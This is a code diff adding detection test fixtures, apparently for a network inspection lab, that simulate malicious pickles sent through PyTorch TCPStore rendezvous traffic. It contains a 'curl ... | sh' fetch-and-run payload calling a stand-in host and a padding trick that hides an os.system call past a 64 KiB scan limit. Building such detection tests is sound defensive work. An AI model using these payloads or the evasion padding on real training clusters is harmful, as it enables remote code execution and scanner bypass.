@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import pickle
 import random
+import struct
 
 from inspector.lab.craft import Capture
 from inspector.lab.ncclcaps import NET_SOCKET, SOCKET_MAGIC
@@ -32,6 +33,30 @@ def _rendezvous_write(cap: Capture, rng: random.Random, attack: bool) -> None:
     pickled = malicious_pickle("curl -s http://203.0.113.66/r.sh | sh") if attack else pickle.dumps(state, protocol=2)
     session = StoreSession(cap, rng, RANK1, RANK0)
     session.set("torch.rendezvous.job42", rendezvous_value(pickled))
+    session.close()
+
+
+def _rendezvous_read(cap: Capture, rng: random.Random, attack: bool) -> None:
+    """A rank reads torch.rendezvous.<run> state the server holds: base64 of a pickle reducing to
+    os.system (planted by someone else: attack) or of plain rendezvous data."""
+    state = {"round": 3, "complete": True, "participants": {"10.30.0.11:1": 1, "10.30.0.12:1": 2}}
+    pickled = malicious_pickle("curl -s http://203.0.113.66/r.sh | sh") if attack else pickle.dumps(state, protocol=2)
+    session = StoreSession(cap, rng, RANK1, RANK0)
+    session.get("torch.rendezvous.job42", rendezvous_value(pickled))
+    session.close()
+
+
+def _padded_pickle_write(cap: Capture, rng: random.Random, attack: bool) -> None:
+    """A rank writes a pickle whose call to os.system comes after 70 KB of string it pops (attack);
+    the near miss writes 70 KB of JSON and a small pickle of plain data."""
+    session = StoreSession(cap, rng, RANK1, RANK0)
+    if attack:
+        padding = b"A" * 70_000
+        padded = b"\x80\x04\x8d" + struct.pack("<Q", len(padding)) + padding + b"0" + malicious_pickle()[2:]
+        session.set("torch.rendezvous.job42", padded)
+    else:
+        session.set("checkpoint/manifest", b'{"shards": "' + b"s" * 70_000 + b'"}')
+        session.set("torch.rendezvous.job42", pickle.dumps({"round": 3}, protocol=4))
     session.close()
 
 
@@ -85,6 +110,17 @@ FIXTURES: dict[str, Fixture] = {
         negative=lambda c, r: _rendezvous_write(c, r, False), parsed=("tcpstore", 3, 3),
         notes="SET torch.rendezvous.job42 to base64(pickle.dumps of an object reducing to os.system); the near "
               "miss stores base64 of a pickled dict of rendezvous state."),
+    "tcpstore_pickle_not_fully_scanned": Fixture(
+        sid=3600005, positive=lambda c, r: _padded_pickle_write(c, r, True),
+        negative=lambda c, r: _padded_pickle_write(c, r, False), parsed=("tcpstore", 3, 4),
+        notes="SET torch.rendezvous.job42 to a pickle that pushes and pops a 70 KB string before its os.system "
+              "call (past the 64 KiB kept of a value); the near miss writes 70 KB of JSON and a small plain "
+              "pickle."),
+    "tcpstore_dangerous_pickle_reply": Fixture(
+        sid=3600006, positive=lambda c, r: _rendezvous_read(c, r, True),
+        negative=lambda c, r: _rendezvous_read(c, r, False), parsed=("tcpstore", 4, 4),
+        notes="A rank reads torch.rendezvous.job42 (WAIT + GET) and the server answers base64 of a pickle "
+              "reducing to os.system; the near miss answers base64 of a pickled dict of rendezvous state."),
     "tcpstore_enumeration_outside_training": Fixture(
         sid=3600003, positive=lambda c, r: _enumerate(c, r, True), negative=lambda c, r: _enumerate(c, r, False),
         parsed=("tcpstore", 7, 8), positive_count=3, config=TRAINING,
